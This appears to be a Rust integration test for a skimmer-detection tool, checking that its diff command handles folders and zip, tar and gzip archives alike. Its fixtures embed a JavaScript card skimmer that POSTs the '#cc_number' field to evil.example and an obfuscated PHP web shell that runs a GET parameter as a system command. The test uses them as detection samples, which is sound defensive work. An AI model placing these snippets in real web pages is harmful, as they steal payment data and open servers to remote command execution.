//! `skimlint diff OLD NEW` with folders and archives in any mix: versions arrive as uploads.

mod common;
use common::run;

use std::io::Write;
use std::path::Path;

const SKIMMER_JS: &str = "var x = 1;\nfetch(\"https://evil.example/c\", {method: \"POST\", body: document.querySelector(\"#cc_number\").value});\n";
const BACKDOOR_PHP: &str = "<?php\n$f = \"sys\".\"tem\"; $f($_GET[\"c\"]);\n";

/// Files of a version: (path, bytes).
type Files = Vec<(String, Vec<u8>)>;

fn zip_of(members: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, bytes) in members {
        w.start_file(name.as_str(), opts).unwrap();
        w.write_all(bytes).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn tar_of(members: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, bytes) in members {
        let mut h = tar::Header::new_gnu();
        h.set_size(bytes.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(tar::EntryType::Regular);
        b.append_data(&mut h, name, &bytes[..]).unwrap();
    }
    b.into_inner().unwrap()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(bytes).unwrap();
    e.finish().unwrap()
}

/// Version 1 and 2 of an extension, as (path, bytes): v2 edits a.js above the old finding (same
/// fingerprint), adds a second copy of it, keeps b.php and adds a skimmer to clean.js.
fn versions() -> (Files, Files) {
    let v1 = vec![
        ("app/a.js".into(), SKIMMER_JS.into()),
        ("app/b.php".into(), BACKDOOR_PHP.into()),
        ("app/clean.js".into(), "console.log('hi');\n".into()),
    ];
    let v2 = vec![
        (
            "app/a.js".into(),
            format!("// v2\n{SKIMMER_JS}{SKIMMER_JS}").into(),
        ),
        ("app/b.php".into(), BACKDOOR_PHP.into()),
        (
            "app/clean.js".into(),
            format!("console.log('hi');\n{SKIMMER_JS}").into(),
        ),
    ];
    (v1, v2)
}

fn within(folder: &str, files: &[(String, Vec<u8>)]) -> Files {
    files
        .iter()
        .map(|(p, b)| (format!("{folder}/{p}"), b.clone()))
        .collect()
}

fn write_tree(root: &Path, files: &[(String, Vec<u8>)]) {
    for (p, b) in files {
        let p = root.join(p);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, b).unwrap();
    }
}

/// `path:line` of each reported finding.
fn places(out: &str) -> Vec<String> {
    out.lines()
        .map(|l| {
            let mut parts = l.splitn(3, ':');
            format!("{}:{}", parts.next().unwrap(), parts.next().unwrap())
        })
        .collect()
}

#[test]
fn diff_takes_folders_and_archives_in_any_mix() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let (v1, v2) = versions();
    write_tree(&root.join("v1"), &v1);
    write_tree(&root.join("v2"), &v2);
    std::fs::write(root.join("v1.zip"), zip_of(&v1)).unwrap();
    // Release archives keep everything in a versioned top folder.
    std::fs::write(root.join("v1.tar"), tar_of(&within("ext-1.4.2", &v1))).unwrap();
    std::fs::write(root.join("v2.zip"), zip_of(&v2)).unwrap();
    std::fs::write(
        root.join("v2.tgz"),
        gzip(&tar_of(&within("ext-1.5.0", &v2))),
    )
    .unwrap();
    std::fs::write(
        root.join("v2.tar.gz"),
        gzip(&tar_of(&within("ext-1.5.0", &v2))),
    )
    .unwrap();

    let concise = |old: &str, new: &str| {
        let (code, out, err) = run(root, &["diff", old, new, "--format", "concise"]);
        assert!(code == 0 || code == 1, "{err}");
        (code, places(&out))
    };
    // Folders: paths relative to NEW.
    let folder_new = vec!["app/a.js:5".to_string(), "app/clean.js:3".to_string()];
    assert_eq!(concise("v1", "v2"), (1, folder_new.clone()));
    // An archive as OLD, with or without a top folder: the same result.
    assert_eq!(concise("v1.zip", "v2"), (1, folder_new.clone()));
    assert_eq!(concise("v1.tar", "v2"), (1, folder_new.clone()));
    // An archive as NEW: paths inside it, as `check` reports archive members.
    assert_eq!(
        concise("v1", "v2.zip"),
        (
            1,
            vec!["v2.zip!/app/a.js:5".into(), "v2.zip!/app/clean.js:3".into()]
        )
    );
    let in_tgz = vec![
        "v2.tgz!/ext-1.5.0/app/a.js:5".to_string(),
        "v2.tgz!/ext-1.5.0/app/clean.js:3".to_string(),
    ];
    for old in ["v1", "v1.zip", "v1.tar"] {
        assert_eq!(concise(old, "v2.tgz"), (1, in_tgz.clone()), "OLD = {old}");
    }
    assert_eq!(concise("v1.tar", "v2.tar.gz").1.len(), 2);
    // Nothing new: exit 0, nothing reported, whatever the containers.
    for (old, new) in [
        ("v2.tgz", "v1.zip"),
        ("v2.zip", "v2.tgz"),
        ("v2", "v2.tar.gz"),
    ] {
        assert_eq!(concise(old, new), (0, vec![]), "{old} {new}");
    }

    // Other formats read archive members again for excerpts (in memory).
    let (code, full, _) = run(root, &["diff", "v1.zip", "v2.tgz", "--format", "full"]);
    assert_eq!(code, 1);
    assert!(full.contains("v2.tgz!/ext-1.5.0/app/clean.js"), "{full}");
    assert!(full.contains("cc_number"), "no excerpt:\n{full}");
    let (_, json, _) = run(root, &["diff", "v1.tar", "v2.zip", "--format", "json"]);
    let doc: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(doc["findings"].as_array().unwrap().len(), 2);

    // The limits of `check` apply to the members: too large is a warning, the scan goes on.
    std::fs::create_dir(root.join("v0")).unwrap();
    let (code, out, err) = run(
        root,
        &[
            "diff",
            "v0",
            "v2.zip",
            "--format",
            "concise",
            "--max-file-size",
            "60",
        ],
    );
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("v2.zip!/app/a.js"), "{err}");
    let mut reported = places(&out);
    reported.dedup();
    assert_eq!(reported, vec!["v2.zip!/app/b.php:2".to_string()]);

    // Neither a folder nor an archive: usage error.
    std::fs::write(root.join("notes.txt"), "x").unwrap();
    let (code, _, err) = run(root, &["diff", "v1", "notes.txt"]);
    assert_eq!(code, 2);
    assert!(err.contains("folders or archives"), "{err}");
}
